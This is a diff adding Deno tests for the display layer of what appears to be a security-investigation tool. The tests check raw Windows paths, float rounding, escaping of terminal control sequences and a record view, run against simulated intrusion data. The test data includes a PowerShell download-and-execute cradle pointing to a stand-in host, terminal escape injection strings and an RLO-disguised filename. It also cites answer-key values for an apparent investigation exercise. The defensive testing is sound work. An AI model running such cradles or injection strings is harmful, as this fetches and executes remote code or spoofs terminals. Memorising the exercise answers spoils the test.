@@ -62,3 +62,144 @@ Deno.test("formatValue() shows frames as tables, queries as text, the rest inspe
 Deno.test("textTable() keeps an empty table's header", () => {
   assertEquals(textTable(["a", "b"], []), "a  b\n-  -");
 });
+
+// Seeing whole values (issue 19): raw strings, rounded floats, hostile text, the record view.
+
+import { Buffer } from "node:buffer";
+import { match, throws } from "node:assert/strict";
+import { openLocalProvider } from "../../src/providers/mod.ts";
+import { show } from "../../src/display/mod.ts";
+import type { DisplayError } from "../../src/display/errors.ts";
+
+/** ANSWERS.md, stage 7: what the attacker's -EncodedCommand decodes to. */
+const CRADLE = "$u='https://cdn.edgeupdate-sync.example/a/u.ps1';$w=New-Object Net.WebClient;" +
+  "$w.Headers.Add('User-Agent','Microsoft-CryptoAPI/10.0');IEX $w.DownloadString($u)";
+/** ANSWERS.md, stage 10: the service's binary. */
+const WSH = "C:\\Windows\\Temp\\wsh.exe";
+
+/** Characters that must never reach a terminal raw (ESC, BEL, CR, backspace, C1, RLO). */
+// deno-lint-ignore no-control-regex
+const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/;
+// deno-lint-ignore no-control-regex
+const COLOUR = /\x1b\[\d+m/g;
+
+Deno.test("a Windows path prints raw: alone, in an array, in a table, in a record", () => {
+  assertEquals(formatValue(WSH, { width: 100, colors: false }), "C:\\Windows\\Temp\\wsh.exe");
+  assertEquals(
+    formatValue([WSH, "C:\\ProgramData\\rclone.exe"], { width: 100, colors: false }),
+    '[ "C:\\Windows\\Temp\\wsh.exe", "C:\\ProgramData\\rclone.exe" ]',
+  );
+  const frame = pl.DataFrame({ ServiceFileName: [WSH] });
+  ok(frameTable(frame).includes("\nC:\\Windows\\Temp\\wsh.exe\n"), frameTable(frame));
+  match(show(frame).toText(80), /^ServiceFileName {2}C:\\Windows\\Temp\\wsh\.exe$/m);
+});
+
+Deno.test("floats are rounded in tables and whole in the record view; integers exact", () => {
+  assertEquals(formatCell(59.91966105), "59.92");
+  assertEquals(formatCell(-3.14159), "-3.14");
+  assertEquals(formatCell(0.0123456), "0.0123");
+  assertEquals(formatCell(2684354560), "2684354560"); // ANSWERS.md: bytes exfiltrated
+  assertEquals(formatCell(60), "60");
+  const frame = pl.DataFrame({ Host: ["LKS-FS01"], Score: [59.91966105], Bytes: [2684354560] });
+  match(frameTable(frame), /LKS-FS01\s+59\.92\s+2684354560\n/);
+  const record = show(frame).toText(80);
+  match(record, /^Score {2}59\.91966105$/m);
+  match(record, /^Bytes {2}2684354560$/m);
+});
+
+Deno.test("escape sequences in data are shown, never sent to the terminal", () => {
+  const hostile = [
+    "cmd /c echo \x1b]0;owned\x07", // sets the window title
+    "\x1b[2J\x1b[Hcleared", // clears the screen
+    "invoice\u202etxt.exe", // right-to-left override
+    "a\rb\bc\x9bd", // carriage return, backspace, a C1 CSI
+  ];
+  const frame = pl.DataFrame({ CommandLine: hostile });
+  const outputs = [
+    frameTable(frame),
+    frameTable(frame, { maxCell: Infinity }),
+    show(frame, 0).toText(),
+    show(frame, 1).toText(),
+    show(frame, 2).toText(),
+    show(frame, 3).toText(),
+    formatValue(hostile[0], { width: 100, colors: false }),
+    formatValue(hostile, { width: 100, colors: false }),
+    // The inspector's own colours are the only escapes allowed.
+    formatValue({ cmd: hostile[1] }, { width: 100, colors: true }).replace(COLOUR, ""),
+  ];
+  for (const text of outputs) ok(!RAW_CONTROL.test(text), JSON.stringify(text));
+  ok(frameTable(frame).includes("cmd /c echo \\x1b]0;owned\\x07"), frameTable(frame));
+  ok(show(frame, 2).toText().includes("invoice\\u202etxt.exe"));
+  ok(show(frame, 3).toText().includes("a\\x0db\\x08c\\x9bd"));
+});
+
+Deno.test("the record view shows the attacker's whole encoded command line, wrapped", async () => {
+  const provider = await openLocalProvider();
+  // ANSWERS.md, stage 7: 2026-03-12T01:52:08Z on LKS-WS-1042.
+  const { frame } = await provider.query(
+    "DeviceProcessEvents | where TimeGenerated == datetime(2026-03-12T01:52:08Z) " +
+      '| where FileName =~ "powershell.exe"',
+  );
+  assertEquals(frame.height, 1);
+  const text = show(frame, 0).toText(80);
+  for (const line of text.split("\n")) ok(line.length <= 80, `longer than 80: ${line}`);
+  // Every column is there, one a line (the value beside its name).
+  match(text, /^row 0 of 1 \(0 to 0\)$/m);
+  match(text, /^DeviceName {10,}lks-ws-1042\.corp\.larkspurlogistics\.example$/m);
+  match(text, /^InitiatingProcessFileName +explorer\.exe$/m);
+  // The command line, its wrapped lines joined: the whole base64, which decodes to the cradle.
+  const start = text.indexOf("\nProcessCommandLine");
+  const lines = text.slice(start + 1).split("\n");
+  const value = [lines[0].replace(/^ProcessCommandLine\s+/, "")];
+  for (const line of lines.slice(1)) {
+    if (!/^ {20,}\S/.test(line)) break;
+    value.push(line.trim());
+  }
+  const encoded = /-EncodedCommand\s+(\S+)/.exec(value.join(""))?.[1];
+  ok(encoded, text);
+  assertEquals(Buffer.from(encoded, "base64").toString("utf16le"), CRADLE);
+  ok(value.length > 3, "a long command line is wrapped over lines, not cut");
+  ok(!text.includes("…"), "nothing is cut");
+});
+
+Deno.test("the record view pretty-prints a dynamic bag and takes columns and rows", async () => {
+  const provider = await openLocalProvider();
+  const { frame } = await provider.query(
+    'SigninLogs | where ResultType == "50126" | sort by TimeGenerated asc | take 3',
+  );
+  const text = show(frame, -1, { columns: ["ResultType", "LocationDetails"] }).toText(100);
+  const lines = text.split("\n");
+  assertEquals(lines[0], `row 2 of 3 (0 to 2); ${frame.width - 2} columns not shown`);
+  assertEquals(lines[1], "ResultType       50126");
+  assertEquals(lines[2], "LocationDetails  {");
+  match(lines[3], /^ {17} {2}"city": "[^"]+",$/);
+  match(text, /^ {19}"geoCoordinates": \{$/m);
+  throws(() => show(frame, 3), (e: DisplayError) => {
+    assertEquals(e.message, "There is no row 3: the frame has 3 rows.");
+    assertEquals(e.hint, "Rows count from 0 to 2 (-1 is the last).");
+    return true;
+  });
+  throws(() => show(frame, 0, { columns: ["Locationdetails"] }), (e: DisplayError) => {
+    match(`${e.message} ${e.hint}`, /Did you mean `LocationDetails`/);
+    return true;
+  });
+});
+
+Deno.test("frameTable() in wide mode cuts nothing and leaves no column out", () => {
+  const long = "x".repeat(300);
+  const frame = pl.DataFrame({ A: [long], B: ["b"], C: ["c"] });
+  const text = frameTable(frame, { width: 40, maxCell: Infinity });
+  ok(text.includes(long));
+  match(text, /^A +B {2}C$/m);
+  assertEquals(frameTable(frame, { columns: ["C", "A"], maxCell: 5 }).split("\n")[0], "C  A");
+  throws(() => frameTable(frame, { columns: ["D"] }), /no column D/);
+});
+
+Deno.test("frameTable(): the note of columns left out wraps to the width (no pager for it)", () => {
+  const frame = pl.DataFrame(
+    Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`InitiatingProcessColumn${i}`, [i]])),
+  );
+  const text = frameTable(frame, { width: 60 });
+  for (const line of text.split("\n")) ok(line.length <= 60, `wider than 60: ${line}`);
+  match(text, /\(1 rows × 30 columns;\n28 more columns: InitiatingProcessColumn2,/);
+});
